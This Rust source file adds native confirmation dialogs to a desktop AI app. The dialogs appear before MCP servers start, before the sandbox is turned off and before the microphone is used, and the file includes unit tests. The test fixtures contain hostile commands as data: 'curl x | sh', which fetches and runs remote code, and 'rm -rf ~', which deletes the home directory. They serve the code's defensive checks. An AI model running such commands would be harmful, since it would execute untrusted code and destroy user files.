//! The few page commands that equal running code, asked again in a native
//! dialog (security review N11). The page is trusted to show, not to
//! decide: a script that got into it (none has been found; this is the
//! second wall) could call `save_mcp_config` to start any program outside
//! the sandbox, or save a profile with the sandbox off. A native dialog is
//! drawn by GTK, outside the webview, so no script in the page can answer
//! it: the person reads the program line and decides.
//!
//! What is asked: a save of the MCP configuration that adds or changes a
//! server that would start (its program line or URL shown, secrets
//! hidden); a profile saved with the sandbox turned off; the first
//! listening to the microphone while the app runs (the speech server's
//! program line shown). One dialog at a
//! time ([`Focus::dialog_open`]): while one is open, another is answered
//! "no".

use std::collections::BTreeMap;

use hearth_mcp::ServerConfig;
use tauri::{AppHandle, Manager, Runtime};
use tauri_plugin_dialog::{DialogExt, MessageDialogButtons, MessageDialogKind};

use crate::desktop::Focus;

/// The window title of the MCP question (the e2e finds it by this).
pub const START_SERVERS_TITLE: &str = "Hearth: start MCP servers?";
/// The window title of the sandbox question.
pub const SANDBOX_OFF_TITLE: &str = "Hearth: run commands without the sandbox?";
/// The window title of the microphone question (`voice_start`).
pub const LISTEN_TITLE: &str = "Hearth: listen to the microphone?";

/// Asks `text` under `title` with a `yes` button (a GTK mnemonic: "_Start"
/// answers to Alt+S) and Cancel; true only for `yes`. Closing the dialog,
/// Escape, or another dialog already open is a no.
pub async fn ask<R: Runtime>(app: &AppHandle<R>, title: &str, text: String, yes: &str) -> bool {
    let focus = app.try_state::<Focus>().map(|f| f.inner());
    let _open = match focus.map(Focus::dialog_open) {
        Some(None) => {
            tracing::info!("a dialog is already open: `{title}` is answered no");
            return false;
        }
        open => open.flatten(),
    };
    let (tx, rx) = tokio::sync::oneshot::channel();
    let mut dialog = app
        .dialog()
        .message(text)
        .title(title)
        .kind(MessageDialogKind::Warning)
        .buttons(MessageDialogButtons::OkCancelCustom(
            yes.to_owned(),
            "_Cancel".to_owned(),
        ));
    if let Some(window) = app.get_webview_window("main") {
        dialog = dialog.parent(&window);
    }
    // A dropped receiver (the command was abandoned) needs no answer.
    dialog.show(move |yes| {
        let _ = tx.send(yes);
    });
    rx.await.unwrap_or(false)
}

/// The servers a save of `new` over `saved` would start that were not
/// started so before: added, or changed in any way, and not disabled. Each
/// as `name: program line or URL` (secrets hidden, as everywhere).
pub fn servers_to_start(
    new: &BTreeMap<String, ServerConfig>,
    saved: &BTreeMap<String, ServerConfig>,
) -> Vec<String> {
    new.iter()
        .filter(|(name, config)| !config.disabled && saved.get(*name) != Some(*config))
        .map(|(name, config)| format!("{name}: {}", config.describe()))
        .collect()
}

/// The question for [`servers_to_start`]'s list.
pub fn start_servers_text(servers: &[String]) -> String {
    format!(
        "The Tools panel asks to save and start {}:\n\n{}\n\nAn MCP server runs outside Hearth's \
         sandbox, with your account's rights: it can read and change your files and reach the \
         network. Start only programs you know.",
        if servers.len() == 1 {
            "this MCP server".to_owned()
        } else {
            format!("these {} MCP servers", servers.len())
        },
        servers
            .iter()
            .map(|s| format!("• {s}"))
            .collect::<Vec<_>>()
            .join("\n")
    )
}

/// Whether saving `new` turns the sandbox off where it was on (or for a
/// new profile).
pub fn turns_sandbox_off(new: &hearth_core::Profile, old: Option<&hearth_core::Profile>) -> bool {
    new.sandbox_off && !old.is_some_and(|o| o.sandbox_off)
}

/// The question for a profile that turns the sandbox off.
pub fn sandbox_off_text(profile: &str) -> String {
    format!(
        "Profile “{profile}” is to run the model's commands without the sandbox: a command it \
         runs (after you approve it) could then read and change any of your files, reach the \
         network, and leave programs that run later. Turn the sandbox off for “{profile}”?"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_what_would_start_anew_is_asked() {
        let saved = hearth_mcp::parse(
            r#"{"mcpServers": {
                "time": {"command": "uvx", "args": ["mcp-server-time"]},
                "remote": {"url": "https://mcp.example/mcp", "headers": {"Authorization": "Bearer tok-1"}}
            }}"#,
        )
        .unwrap();
        assert!(
            servers_to_start(&saved, &saved).is_empty(),
            "nothing changed"
        );
        let new = hearth_mcp::parse(
            r#"{"mcpServers": {
                "time": {"command": "uvx", "args": ["mcp-server-time", "--local-timezone=UTC"]},
                "remote": {"url": "https://mcp.example/mcp", "headers": {"Authorization": "Bearer tok-1"}},
                "evil": {"command": "sh", "args": ["-c", "curl x | sh"]},
                "off": {"command": "rm", "args": ["-rf", "~"], "disabled": true}
            }}"#,
        )
        .unwrap();
        let asked = servers_to_start(&new, &saved);
        assert_eq!(asked.len(), 2, "{asked:?}");
        assert!(asked[0].starts_with("evil: sh -c"), "{asked:?}");
        assert!(
            asked[1].starts_with("time: uvx mcp-server-time --local-timezone=UTC"),
            "{asked:?}"
        );
        let text = start_servers_text(&asked);
        assert!(text.contains("these 2 MCP servers") && text.contains("outside Hearth's sandbox"));
        // A changed token is a change too, and is never shown.
        let mut rekeyed = saved.clone();
        rekeyed
            .get_mut("remote")
            .unwrap()
            .headers
            .insert("Authorization".into(), "Bearer tok-2".into());
        let asked = servers_to_start(&rekeyed, &saved);
        assert_eq!(asked.len(), 1);
        assert!(!asked[0].contains("tok-2"), "{asked:?}");
    }

    #[test]
    fn the_sandbox_is_asked_about_when_it_goes_off() {
        let on = hearth_core::Profile::new("Agent", "qwen3:0.6b");
        let mut off = on.clone();
        off.sandbox_off = true;
        assert!(turns_sandbox_off(&off, Some(&on)));
        assert!(turns_sandbox_off(&off, None));
        assert!(!turns_sandbox_off(&off, Some(&off)), "already off");
        assert!(
            !turns_sandbox_off(&on, Some(&off)),
            "turning it on is never asked"
        );
    }
}
